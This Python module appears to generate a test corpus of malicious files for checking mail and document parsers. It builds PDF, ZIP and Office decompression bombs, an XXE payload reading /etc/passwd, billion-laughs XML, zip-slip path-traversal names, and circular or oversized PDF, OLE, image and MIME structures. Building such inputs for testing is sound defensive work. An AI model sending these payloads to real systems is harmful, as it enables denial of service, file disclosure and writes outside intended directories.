"""Makes files that mean harm, each on disk and small enough to be mailed. Makes them; never opens them again.

Every function yields (name, how to write it). What is large when unpacked is compressed piece by piece.
"""

import base64
import io
import struct
import zipfile
import zlib

MB = 1 << 20


def deflated(pieces):
    """Compressed (zlib) bytes of many pieces."""
    packer = zlib.compressobj(6)
    return b"".join(packer.compress(piece) for piece in pieces) + packer.flush()


def pdf(objects, trailer=b"", more=b""):
    """A PDF of these numbered objects; the first is the catalogue."""
    out, places = bytearray(b"%PDF-1.5\n"), []
    for number, one in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    start = len(out)
    out += more + b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, start)
    return bytes(out)


def stream(data, more=b"/Filter /FlateDecode"):
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), more, data)


def page(content, resources=b"", more=()):
    """A page with this content stream (an object); further objects are numbered from 6."""
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R "
            b"/Resources << /Font << /F 5 0 R >> %s >> >>" % resources,
            content,
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            *more,
        ]
    )


def form(content, inside=b""):
    return stream(content, b"/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources << /XObject << %s >> >>" % inside)


def picture(wide, high, filters, data):
    head = b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 8 %s"
    return stream(data, head % (wide, high, filters))


def jpeg(wide, high):
    """Frame header of a grey JPEG of any size, hardly any data (ITU-T T.81 B.2.2)."""
    quant = b"\xff\xdb\x00\x43\x00" + bytes([16]) * 64
    frame = b"\xff\xc0\x00\x0b\x08" + struct.pack(">HH", high, wide) + b"\x01\x01\x11\x00"
    huffman = b"".join(b"\xff\xc4\x00\x14" + bytes([kind, 1] + [0] * 15 + [0]) for kind in (0x00, 0x10))
    return b"\xff\xd8" + quant + frame + huffman + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00" + b"\x00" * 64 + b"\xff\xd9"


def png(wide, high, row_bytes):
    """A PNG of any size; the rows are zeros and compress away."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = deflated(bytes(MB) for _ in range((row_bytes + 1) * high // MB + 1))
    head = struct.pack(">IIBBBBB", wide, high, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def jbig2(wide, high):
    """A page information segment and an empty generic region of this size (ITU-T T.88 7.4.8, 7.4.6)."""
    info = struct.pack(">IBBBI", 0, 0x30, 0, 1, 19) + struct.pack(">IIIIBH", wide, high, 0, 0, 0, 0)
    region = struct.pack(">IIIIB", wide, high, 0, 0, 0) + b"\x00" + struct.pack(">bbbbbbbb", 3, -1, -3, -1, 2, -2, -2, -2)
    data = region + b"\x00" * 32
    return info + struct.pack(">IBBBI", 1, 38, 0, 1, len(data)) + data


def archive(entries):
    """A ZIP of (name, pieces)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=6) as made:
        for name, pieces in entries:
            with made.open(name, "w") as file:
                for piece in pieces:
                    file.write(piece)
    return out.getvalue()


TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" '
    b'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/%s" '
    b'ContentType="application/vnd.openxmlformats-officedocument.%s.main+xml"/></Types>'
)
RELS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    b'Target="%s"/></Relationships>'
)
W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def docx(pieces, more=()):
    return archive(
        [
            ("[Content_Types].xml", [TYPES % (b"word/document.xml", b"wordprocessingml.document")]),
            ("_rels/.rels", [RELS % b"word/document.xml"]),
            ("word/document.xml", pieces),
            *more,
        ]
    )


def xlsx(sheet, strings=None):
    book = b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>'
    rels = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
    entries = [
        ("[Content_Types].xml", [TYPES % (b"xl/workbook.xml", b"spreadsheetml.sheet")]),
        ("_rels/.rels", [RELS % b"xl/workbook.xml"]),
        ("xl/workbook.xml", [book]),
        ("xl/_rels/workbook.xml.rels", [rels]),
        ("xl/worksheets/sheet1.xml", sheet),
    ]
    return archive(entries + ([("xl/sharedStrings.xml", strings)] if strings else []))


SHEET = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'


def pdfs():
    spaces = [b" " * MB]
    yield "pdf-flate-bomb-800-mb.pdf", lambda: page(stream(deflated(spaces * 800)))
    yield "pdf-flate-twice-4-gb.pdf", lambda: page(
        stream(zlib.compress(deflated(spaces * 4096), 9), b"/Filter [/FlateDecode /FlateDecode]")
    )
    yield "pdf-2-million-operators.pdf", lambda: page(
        stream(deflated([b"BT /F 12 Tf 50 700 Td "] + [b"1 0 Td (x) Tj " * 1000] * 2000 + [b"ET"]))
    )
    yield "pdf-3-million-q.pdf", lambda: page(stream(deflated([b"q " * 1000] * 3000 + [b"BT /F 12 Tf (x) Tj ET"])))
    yield "pdf-500000-arrays-in-content.pdf", lambda: page(stream(deflated([b"[" * 500_000 + b"] TJ"])))
    yield "pdf-500000-arrays-in-object.pdf", lambda: page(
        stream(deflated([b"BT /F 12 Tf (x) Tj ET"])), b"/Properties 6 0 R", [b"[" * 500_000 + b"]" * 500_000]
    )
    yield "pdf-form-within-itself.pdf", lambda: page(
        stream(b"/A Do", b""), b"/XObject << /A 6 0 R >>", [form(b"/A Do", b"/A 6 0 R")]
    )
    forms = [form(b"/A Do " * 10, b"/A %d 0 R" % (number + 7)) for number in range(30)]
    forms.append(form(b"BT /F 12 Tf (x) Tj ET"))
    yield "pdf-10-to-the-30-forms.pdf", lambda: page(stream(b"/A Do", b""), b"/XObject << /A 6 0 R >>", forms)
    yield "pdf-page-tree-in-a-circle.pdf", lambda: pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 1000000 /Parent 3 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 1000000 /Parent 2 0 R >>",
        ]
    )
    yield "pdf-object-stream-within-itself.pdf", object_stream_within_itself
    yield "pdf-xref-in-a-circle.pdf", xref_in_a_circle
    yield "pdf-length-is-itself.pdf", lambda: pdf(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Length 2 0 R >>\nstream\nxx\nendstream"]
    )
    kids = b" ".join(b"3 0 R" for _ in range(300_000))
    yield "pdf-300000-pages.pdf", lambda: pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count 300000 >>" % kids,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> >>",
            stream(b"BT /F 12 Tf (again) Tj ET", b""),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        ]
    )
    draw = stream(b"q 600 0 0 800 0 0 cm /I Do Q", b"")
    side = 60_000
    for name, filters, data in [
        ("flate", b"/Filter /FlateDecode", lambda: deflated([bytes(MB)] * (side * side // MB + 1))),
        ("jpeg", b"/Filter /DCTDecode", lambda: jpeg(side, side)),
        ("jbig2", b"/Filter /JBIG2Decode", lambda: jbig2(side, side)),
    ]:
        yield f"pdf-picture-{name}-60000.pdf", lambda filters=filters, data=data: page(
            draw, b"/XObject << /I 6 0 R >>", [picture(side, side, filters, data())]
        )
    yield "pdf-page-of-14-km.pdf", lambda: page(stream(b"BT /F 12 Tf (x) Tj ET", b"")).replace(
        b"[0 0 600 800]", b"[0 0 40000000 40000000]"
    )


def object_stream_within_itself():
    """The stream that holds object 4 is object 4; its length stands in itself; it extends itself (7.5.7)."""
    inside = b"4 0 5 30 << /Type /Pages /Kids [5 0 R] >>  5 0 R"
    body = zlib.compress(inside)
    out = bytearray(b"%PDF-1.5\n1 0 obj\n<< /Type /Catalog /Pages 4 0 R >>\nendobj\n")
    at = len(out)
    out += b"4 0 obj\n<< /Type /ObjStm /N 2 /First 9 /Extends 4 0 R /Length 5 0 R /Filter /FlateDecode >>\nstream\n%s\nendstream\nendobj\n" % body
    start = len(out)
    rows = b"".join(
        struct.pack(">BIB", *row) for row in [(0, 0, 0), (1, 9, 0), (0, 0, 0), (1, start, 0), (2, 4, 0), (2, 4, 1)]
    )
    rows = rows.replace(struct.pack(">BIB", 2, 4, 0), struct.pack(">BIB", 1, at, 0))
    out += b"3 0 obj\n<< /Type /XRef /Size 6 /W [1 4 1] /Root 1 0 R /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (len(rows), rows)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


def xref_in_a_circle():
    """Each table names the other as the one before it (7.5.5)."""
    out = bytearray(b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 1 0 R >>\nendobj\n")
    first = len(out)
    table = b"xref\n0 2\n0000000000 65535 f \n0000000009 00000 n \ntrailer\n<< /Size 2 /Root 1 0 R /Prev %010d >>\n"
    second = first + len(table % 0)
    return bytes(out + table % second + table % first + b"startxref\n%d\n%%%%EOF\n" % second)


def archives():
    zeros = [bytes(MB)]
    yield "zip-bomb-4-gb.zip", lambda: archive([(f"{n}.txt", zeros * 1024) for n in range(4)])
    yield "zip-overlapping-bomb.zip", overlapping
    yield "zip-bomb-in-levels.zip", levels
    yield "zip-200-deep.zip", deep
    yield "zip-65000-entries.zip", lambda: archive([(f"{n}.txt", [b"x"]) for n in range(65_000)])
    names = ["../../../../tmp/slip.txt", "/tmp/slip.txt", "C:\\slip.txt", "..\\..\\slip.txt", "a\x00b.txt", "x" * 60_000, "\u202efdp.exe", "", ".", ".."]
    yield "zip-slip-names.zip", lambda: archive([(name, [b"slipped through"]) for name in names])
    yield "zip-lies-about-sizes.zip", lying


def overlapping():
    """Many directory entries that share one compressed body."""
    body_packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    body, crc, size = b"", 0, 0
    for _ in range(256):
        piece = bytes(MB)
        body += body_packer.compress(piece)
        crc, size = zlib.crc32(piece, crc), size + len(piece)
    body += body_packer.flush()
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(body), size, 5, 0) + b"a.txt" + body
    count, directory = 2000, b""
    for number in range(count):
        name = b"a.txt" if number == 0 else b"%05d" % number
        directory += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(body), size, 5, 0, 0, 0, 0, 0, 0) + name
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(directory), len(local), 0)
    return local + directory + end


def levels():
    """Ten archives in each, five levels deep: 100,000 times 10 MB."""
    made = archive([("0.txt", [bytes(MB)] * 10)])
    for level in range(5):
        made = archive([(f"{n}.zip", [made]) for n in range(10)])
    return made


def deep():
    made = archive([("end.txt", [b"the end"])])
    for _ in range(200):
        made = archive([("next.zip", [made])])
    return made


def lying():
    """The directory says ten bytes where a gigabyte comes out."""
    made = archive([("a.txt", [bytes(MB)] * 1024)])
    at = made.rindex(b"PK\x01\x02")
    return made[: at + 24] + struct.pack("<I", 10) + made[at + 28 :]


def offices():
    text = b"<w:p><w:r><w:t>%s</w:t></w:r></w:p>"
    yield "docx-bomb-1-gb.docx", lambda: docx([b" " * MB] * 1024)
    yield "docx-xxe.docx", lambda: docx(
        [
            b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % r SYSTEM "http://127.0.0.1:9/x"> %r;]>'
            b"<w:document " + W + b"><w:body>" + text % b"before &x; after" + b"</w:body></w:document>"
        ]
    )
    laughs = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 30))
    yield "docx-billion-laughs.docx", lambda: docx(
        [b'<!DOCTYPE d [<!ENTITY l0 "ha">' + laughs + b"]><w:document " + W + b"><w:body>" + text % b"&l29; said" + b"</w:body></w:document>"]
    )
    yield "docx-one-long-entity.docx", lambda: docx(
        [b'<!DOCTYPE d [<!ENTITY l "' + b"a" * 100_000 + b'">]><w:document ' + W + b"><w:body>" + text % (b"&l;" * 100_000) + b"</w:body></w:document>"]
    )
    yield "docx-deep-xml.docx", lambda: docx([b"<w:document " + W + b"><w:body>", *[b"<w:p>" * 1000] * 3000])
    yield "docx-deep-tables.docx", lambda: docx(
        [b"<w:document " + W + b"><w:body>", *[b"<w:tbl><w:tr><w:tc>" * 100] * 1000, text % b"x", *[b"</w:tc></w:tr></w:tbl>" * 100] * 1000]
    )
    yield "docx-a-million-attributes.docx", lambda: docx(
        [b"<w:document " + W, *[b"".join(b' a%d="x"' % (n + k) for k in range(1000)) for n in range(0, 1_000_000, 1000)], b"><w:body/></w:document>"]
    )
    far = b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>first</t></is></c></row><row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>last</t></is></c></row></sheetData></worksheet>'
    yield "xlsx-17-billion-cells.xlsx", lambda: xlsx([SHEET, b'<dimension ref="A1:XFD1048576"/>', far])
    yield "xlsx-merged-everywhere.xlsx", lambda: xlsx(
        [SHEET, far.replace(b"</worksheet>", b""), b'<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells></worksheet>']
    )
    yield "xlsx-4-billion-strings.xlsx", lambda: xlsx(
        [SHEET, b'<sheetData><row r="1"><c r="A1" t="s"><v>4294967295</v></c></row></sheetData></worksheet>'],
        [b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="4294967295" uniqueCount="4294967295"><si><t>only</t></si></sst>'],
    )
    long = b"<si><t>" + b"y" * 30_000 + b"</t></si>"
    cells = b"<row>" + b'<c t="s"><v>0</v></c>' * 1000 + b"</row>"
    yield "xlsx-one-long-string-everywhere.xlsx", lambda: xlsx(
        [SHEET, b"<sheetData>", *[cells] * 500, b"</sheetData></worksheet>"],
        [b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">', long, b"</sst>"],
    )
    names = 'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'.encode()

    def odf(kind, pieces):
        return archive([("mimetype", [b"application/vnd.oasis.opendocument." + kind]), ("content.xml", [b"<office:document-content " + names + b"><office:body>", *pieces])])

    yield "odt-deep-sections.odt", lambda: odf(b"text", [b"<office:text>", *[b"<text:section>" * 1000] * 1000])
    yield "odt-2-billion-spaces.odt", lambda: odf(
        b"text", [b'<office:text><text:p>a<text:s text:c="2147483647"/>b</text:p></office:text></office:body></office:document-content>']
    )
    yield "ods-repeats-a-billion-cells.ods", lambda: odf(
        b"spreadsheet",
        [
            b'<office:spreadsheet><table:table table:name="S"><table:table-row table:number-rows-repeated="1048576">'
            b'<table:table-cell table:number-columns-repeated="16384" office:value-type="string"><text:p>again and again</text:p>'
            b"</table:table-cell></table:table-row></table:table></office:spreadsheet></office:body></office:document-content>"
        ],
    )
    yield "rtf-300000-groups.rtf", lambda: b"{\\rtf1 " + b"{" * 300_000 + b"x"
    yield "rtf-huge-binary.rtf", lambda: b"{\\rtf1 a{\\pict\\bin2147483647 zz} b\\'zz\\u-99999999999 ?\\uc4000000000 c}"
    yield "html-300000-divs.html", lambda: b"<html><body>" + b"<div>" * 300_000 + b"deep"
    yield "html-tables-in-tables.html", lambda: b"<html><body>" + b"<table><tr><td>" * 5_000 + b"deep"
    yield "html-100000-columns.html", lambda: b"<html><body><table>" + (b"<tr>" + b"<td>x" * 3000) * 100


def mails():
    """Name and the mail's own bytes."""
    head = b"From: a@example.org\r\nTo: b@example.org\r\nSubject: %s\r\nMessage-ID: <%s@hostile.example>\r\nMIME-Version: 1.0\r\n"
    yield "mail-100000-parts.eml", lambda: (
        head % (b"parts", b"parts") + b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + b"--b\r\nContent-Type: text/plain\r\n\r\nx\r\n" * 100_000 + b"--b--\r\n"
    )
    inner = b"Content-Type: message/rfc822\r\n\r\nSubject: inner\r\nMIME-Version: 1.0\r\n" * 2000
    yield "mail-2000-messages-deep.eml", lambda: head % (b"deep", b"deep") + inner + b"Content-Type: text/plain\r\n\r\nbottom\r\n"

    def nested():
        out = head % (b"multiparts", b"multiparts")
        for n in range(3000):
            out += b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n)
        return out + b"Content-Type: text/plain\r\n\r\nbottom\r\n"

    yield "mail-3000-multiparts-deep.eml", nested
    yield "mail-500000-headers.eml", lambda: head % (b"headers", b"headers") + b"X-A: b\r\n" * 500_000 + b"\r\ntext\r\n"
    attached = (
        b"--b\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename=\"%d.pdf\"\r\nContent-Transfer-Encoding: base64\r\n\r\n%s\r\n"
    )
    small = page(stream(b"BT /F 12 Tf (one of many) Tj ET", b""))
    yield "mail-2000-pdfs.eml", lambda: (
        head % (b"pdfs", b"pdfs") + b"Content-Type: multipart/mixed; boundary=b\r\n\r\n"
        + b"".join(attached % (n, base64.encodebytes(small.replace(b"many", b"%04d" % n))) for n in range(2000)) + b"--b--\r\n"
    )


def outlook():
    def attribute(level, name, data, size=None):
        return struct.pack("<BII", level, name, len(data) if size is None else size) + data + struct.pack("<H", sum(data) & 0xFFFF)

    start = struct.pack("<IH", 0x223E9F78, 1)
    yield "tnef-length-4-gb.dat", lambda: start + attribute(1, 0x00089006, struct.pack("<I", 0x10000)) + attribute(2, 0x0006800F, b"short", 0xFFFFFFFF)
    count = struct.pack("<I", 0xFFFFFFFF)
    yield "tnef-4-billion-properties.dat", lambda: start + attribute(1, 0x00069003, count + b"\x1e\x00\x37\x00" + count + count + b"x")
    yield "tnef-200000-attachments.dat", lambda: start + (attribute(2, 0x00069002, bytes(14)) + attribute(2, 0x0006800F, b"x")) * 200_000

    def compound(fat, directory_start=1):
        """An OLE file of three sectors with this allocation table ([MS-CFB] 2.2)."""
        head = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
        head += struct.pack("<IIIIIIIII", 0, 1, directory_start, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0) + struct.pack("<I", 0) + b"\xff" * 432
        table = struct.pack("<128I", *(fat + [0xFFFFFFFF] * (128 - len(fat))))

        def entry(name, kind, child, first, size, sibling=0xFFFFFFFF):
            wide = name.encode("utf-16-le")
            return wide.ljust(64, b"\0") + struct.pack("<HBBIII", len(wide) + 2, kind, 1, sibling, sibling, child) + bytes(36) + struct.pack("<IQ", first, size)

        directory = entry("Root Entry", 5, 1, 2, 512) + entry("__properties_version1.0", 2, 1, 2, 1 << 40, 1)
        directory += entry("__substg1.0_1000001F", 2, 0xFFFFFFFF, 2, 0xFFFFFFFF) + entry("x", 1, 3, 0, 0, 3)
        return head + table + directory + b"z" * 512

    yield "msg-sectors-in-a-circle.msg", lambda: compound([0xFFFFFFFD, 1, 2])
    yield "msg-directory-in-itself.msg", lambda: compound([0xFFFFFFFD, 0xFFFFFFFE, 0xFFFFFFFE])
    yield "doc-sectors-in-a-circle.doc", lambda: compound([0xFFFFFFFD, 1, 2]).replace(
        "__properties_version1.0".encode("utf-16-le"), "WordDocument".encode("utf-16-le").ljust(46, b"\0")
    )


def pictures():
    side = 60_000
    yield "picture-60000.png", lambda: png(side, side, side)
    yield "picture-60000.jpg", lambda: jpeg(side, side)
    loop = struct.pack("<2sHIH", b"II", 42, 8, 1) + struct.pack("<HHII", 256, 4, 1, side) + struct.pack("<I", 8)
    yield "picture-pages-in-a-circle.tiff", lambda: loop
    tags = [(256, side), (257, side), (258, 8), (259, 1), (262, 1), (273, 8), (277, 1), (278, side), (279, 0xFFFFFFFF)]
    yield "picture-60000.tiff", lambda: struct.pack("<2sHIH", b"II", 42, 8, len(tags)) + b"".join(
        struct.pack("<HHII", tag, 4, 1, value) for tag, value in tags
    ) + struct.pack("<I", 0)
    frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, 65535, 65535, 0) + b"\x02\x02\x44\x01\x00"
    yield "picture-10000-frames.gif", lambda: b"GIF89a" + struct.pack("<HHBBB", 65535, 65535, 0x80, 0, 0) + bytes(6) + frame * 10_000 + b";"
    yield "picture-30000.bmp", lambda: b"BM" + struct.pack("<IHHI", 54, 0, 0, 54) + struct.pack("<IiiHHIIiiII", 40, 2**31 - 1, 2**31 - 1, 1, 24, 0, 0, 0, 0, 0, 0)


def texts():
    yield "text-one-line-of-60-mb.txt", lambda: b"word " * 12_000_000
    yield "text-only-zeros-50-mb.txt", lambda: bytes(50 * MB)
    yield "text-combining-marks.txt", lambda: ("e" + "\u0301" * 2_000_000).encode()
    yield "csv-200000-columns.csv", lambda: (b"," * 200_000 + b"\n") * 50


def files():
    """(name, function that makes the bytes, whether it is a mail of its own)."""
    for group in (pdfs, archives, offices, outlook, pictures, texts):
        for name, make in group():
            yield name, make, False
    for name, make in mails():
        yield name, make, True
